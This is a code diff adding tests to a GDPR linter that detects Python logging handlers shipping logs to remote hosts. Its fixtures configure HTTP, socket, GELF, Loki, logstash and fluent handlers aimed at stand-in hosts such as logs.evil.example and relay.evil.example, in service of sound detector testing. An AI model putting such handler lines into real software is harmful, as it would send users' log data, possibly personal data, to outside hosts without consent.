@@ -180,6 +180,171 @@ def test_log_handlers_configured_by_a_dict():
     assert "Papertrail" in found[1].message
 
 
+def _scan_files(tmp_path, files: dict[str, str], config: str = "") -> list[tuple[str, int, str]]:
+    """``(path, line, message)`` of the GDPR303 findings of a tree of dedented files, scanned whole
+    (the project facts see every module)."""
+    import textwrap
+
+    from gdpr_lint.policy import load_policy
+    from gdpr_lint.policy.config import parse_config
+    from gdpr_lint.scan import scan
+
+    for name, text in files.items():
+        path = tmp_path / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(textwrap.dedent(text).lstrip("\n"))
+    import yaml
+
+    policy = load_policy(parse_config(yaml.safe_load(config), "test") if config else None)
+    result = scan([tmp_path], policy, root=tmp_path, jobs=1, cache_dir=tmp_path / ".cache")
+    return [(f.path, f.line, f.message) for f in result.findings if f.code == "GDPR303"]
+
+
+def test_project_subclasses_of_remote_log_handlers_are_judged_as_their_base(tmp_path):
+    files = {
+        "shop/__init__.py": "",
+        "shop/logsetup.py": """
+            import logging.handlers
+            from logging import handlers as H
+
+
+            class Shipper(logging.handlers.HTTPHandler):
+                pass
+
+
+            class Relay(H.SocketHandler):
+                pass
+
+
+            root = logging.getLogger()
+            root.addHandler(Shipper("logs.evil.example", "/in", secure=True))
+            """,
+        "shop/more.py": "from .logsetup import Shipper\n\n\nclass Batched(Shipper):\n    pass\n",
+        "shop/app.py": """
+            import logging
+            from shop.more import Batched
+            from shop import logsetup
+
+            logging.getLogger().addHandler(Batched("logs.evil.example", "/in"))
+            logging.getLogger().addHandler(logsetup.Relay(host="relay.evil.example", port=9020))
+            logging.getLogger().addHandler(Batched("logs.internal", "/in"))
+            """,
+        "shop/settings.py": """
+            LOGGING = {"version": 1, "handlers": {
+                "ship": {"class": "shop.logsetup.Shipper", "host": "logs.evil.example", "url": "/in"}}}
+            """,
+    }
+    found = _scan_files(tmp_path, files)
+    assert [(path, line) for path, line, _ in found] == [
+        ("shop/app.py", 5), ("shop/app.py", 6), ("shop/logsetup.py", 14), ("shop/settings.py", 2)]
+    assert "sent to logs.evil.example by Batched (a subclass of HTTPHandler)" in found[0][2]
+    assert "sent to relay.evil.example by Relay (a subclass of SocketHandler)" in found[1][2]
+
+
+def test_project_classes_that_only_look_like_remote_handlers_are_not_findings(tmp_path):
+    files = {
+        "shop/__init__.py": "",
+        "shop/transport.py": """
+            import logging
+
+
+            class HTTPHandler:  # the project's own, no logging handler
+                def __init__(self, host, url):
+                    self.host, self.url = host, url
+
+
+            class Console(logging.StreamHandler):
+                pass
+
+
+            class Quiet(HTTPHandler):
+                pass
+            """,
+        "shop/app.py": """
+            import logging
+            import sys
+            from shop.transport import Console, HTTPHandler, Quiet
+
+            logging.getLogger().addHandler(Console(sys.stderr))
+            client = HTTPHandler("logs.evil.example", "/in")
+            other = Quiet("logs.evil.example", "/in")
+            """,
+    }
+    assert _scan_files(tmp_path, files) == []
+
+
+def test_third_party_log_shipping_handlers():
+    src = '''
+    import logging
+    import graypy, logging_loki, logstash, watchtower
+    from fluent import handler as fluent_handler
+    from loggly.handlers import HTTPSHandler
+    from opencensus.ext.azure.log_exporter import AzureLogHandler
+    from google.cloud.logging.handlers import CloudLoggingHandler
+
+    root = logging.getLogger()
+    root.addHandler(graypy.GELFUDPHandler("logs.evil.example", 12201))
+    root.addHandler(logging_loki.LokiHandler(url="https://logs.evil.example/loki/api/v1/push", version="1"))
+    root.addHandler(logstash.TCPLogstashHandler("logs.evil.example", 5959))
+    root.addHandler(fluent_handler.FluentHandler("app", host="fluentd.evil.example"))
+    root.addHandler(HTTPSHandler("https://logs-01.loggly.com/inputs/TOKEN/tag/python"))
+    root.addHandler(watchtower.CloudWatchLogHandler(log_group_name="shop"))
+    root.addHandler(AzureLogHandler(connection_string="InstrumentationKey=x"))
+    root.addHandler(CloudLoggingHandler(client, name="shop"))
+    root.addHandler(graypy.GELFTCPHandler("localhost", 12201))
+    root.addHandler(fluent_handler.FluentHandler("app"))
+    root.addHandler(logstash.TCPLogstashHandler("10.0.0.5", 5959))
+    '''
+    found = {f.line: f for f in run(src) if f.code == "GDPR303"}
+    assert sorted(found) == list(range(9, 17))
+    assert "by LokiHandler" in found[10].message and "logs.evil.example" in found[10].message
+    assert "Loggly" in found[13].message and found[13].processor == "loggly"
+    assert "Amazon Web Services" in found[14].message and found[14].processor == "aws"
+    assert "Microsoft" in found[15].message and "Google" in found[16].message
+    approved = {"approved_processors": [{"name": "aws"}, {"name": "azure"}, {"name": "google-cloud"}]}
+    assert sorted(f.line for f in run(src, approved) if f.code == "GDPR303") == list(range(9, 14))
+
+
+def test_remote_handlers_named_another_way():
+    src = '''
+    import logging
+    import logging.handlers
+    from logging import handlers as H
+
+    Cls = H.HTTPHandler
+    Again = Cls
+    root = logging.getLogger()
+    root.addHandler(Cls("logs.evil.example", "/x"))
+    root.addHandler(getattr(logging.handlers, "SocketHandler")("logs.evil.example", 9020))
+    root.addHandler(Again("logs.evil.example", "/x"))
+    root.addHandler(Cls("logs.internal", "/x"))
+    Local = logging.StreamHandler
+    root.addHandler(Local())
+    root.addHandler(getattr(logging.handlers, "RotatingFileHandler")("shop.log"))
+    root.addHandler(getattr(logging.handlers, kind)("logs.evil.example", 9020))
+    '''
+    assert only("GDPR303", src) == [8, 9, 10]
+
+
+def test_dict_configs_that_name_the_handler_or_its_host_by_a_module_constant():
+    src = '''
+    import logging.config
+
+    HANDLER = "logging.handlers." + "HTTPHandler"
+    HOST = "logs.evil.example"
+    LOCAL = "logs.internal"
+    logging.config.dictConfig({"version": 1, "handlers": {
+        "a": {"class": HANDLER, "host": "logs.evil.example", "url": "/x"},
+        "b": {"class": "logging.handlers.HTTPHandler", "host": HOST, "url": "/x"},
+        "c": {"class": HANDLER, "host": LOCAL, "url": "/x"},
+        "d": {"class": CLASS_FROM_ELSEWHERE, "host": HOST},
+        "e": {"class": "logging.StreamHandler"},
+        "f": {"class": json.loads(text), "host": HOST},
+    }})
+    '''
+    assert only("GDPR303", src) == [7, 8]
+
+
 def test_storage_sinks():
     src = '''
     import csv, io, json, boto3, redis
